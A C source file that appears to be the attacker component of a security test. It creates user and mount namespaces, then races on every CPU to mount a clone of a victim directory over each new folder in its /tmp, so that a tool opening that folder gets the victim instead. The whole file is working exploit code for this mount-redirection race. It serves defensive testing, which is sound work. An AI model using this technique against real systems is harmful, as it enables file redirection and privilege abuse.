/* The attacker of security_jvm_test.sh: an unprivileged user's "JVM" with user and mount namespaces
 * of its own. A thread on each CPU waits for a new folder in its /tmp and puts a clone of a mount
 * of VICTIM over it: whoever then opens the folder by its name has VICTIM instead.
 *
 *   mount_race VICTIM TMP LIBJVM SECONDS     prints "ready PID" and a line for each mount */
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_open_tree
#define SYS_open_tree  428
#define SYS_move_mount 429
#endif
#define CLONE_THE_TREE  1
#define FROM_EMPTY_PATH 4

static int victim; /* opened before our own /tmp hides it */

static void write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        perror(path);
    if (fd >= 0)
        close(fd);
}

static void on_signal(int number)
{
    (void)number;
}

static void *attack(void *cpu)
{
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET((size_t)(intptr_t)cpu, &one);
    sched_setaffinity(0, sizeof one, &one);
    for (;;) {
        _Alignas(struct inotify_event) char events[4096];
        char path[512];
        int tree =
            (int)syscall(SYS_open_tree, victim, "", CLONE_THE_TREE | AT_EMPTY_PATH | O_CLOEXEC);
        int watch = inotify_init1(IN_CLOEXEC);
        if (tree < 0 || watch < 0 || inotify_add_watch(watch, "/tmp", IN_CREATE | IN_ONLYDIR) < 0) {
            perror("open_tree");
            return NULL;
        }
        if (read(watch, events, sizeof events) > 0) {
            const struct inotify_event *event = (const void *)events;
            snprintf(path, sizeof path, "/tmp/%s", event->name);
            if ((event->mask & IN_ISDIR) != 0 &&
                syscall(SYS_move_mount, tree, "", AT_FDCWD, path, FROM_EMPTY_PATH) == 0)
                dprintf(STDOUT_FILENO, "mounted over %s\n", event->name);
        }
        close(tree);
        close(watch);
    }
}

int main(int argc, char **argv)
{
    char text[64];
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (argc != 5)
        return 64;
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
        perror("unshare");
        return 77;
    }
    write_text("/proc/self/setgroups", "deny");
    snprintf(text, sizeof text, "%u %u 1", uid, uid);
    write_text("/proc/self/uid_map", text);
    snprintf(text, sizeof text, "%u %u 1", gid, gid);
    write_text("/proc/self/gid_map", text);
    int fd = open(argv[3], O_RDONLY | O_CLOEXEC);
    if (fd < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED) {
        perror(argv[3]);
        return 1;
    }
    if (mount("none", "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
        (victim = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC)) < 0 ||
        mount(argv[2], "/tmp", NULL, MS_BIND, NULL) != 0) {
        perror("mount");
        return 77;
    }
    signal(SIGQUIT, on_signal);
    for (intptr_t cpu = 0; cpu < sysconf(_SC_NPROCESSORS_ONLN); cpu++) {
        pthread_t thread;
        pthread_create(&thread, NULL, attack, (void *)cpu);
    }
    dprintf(STDOUT_FILENO, "ready %d\n", (int)getpid());
    for (unsigned left = (unsigned)atoi(argv[4]); left > 0;)
        left = sleep(left);
    return 0;
}
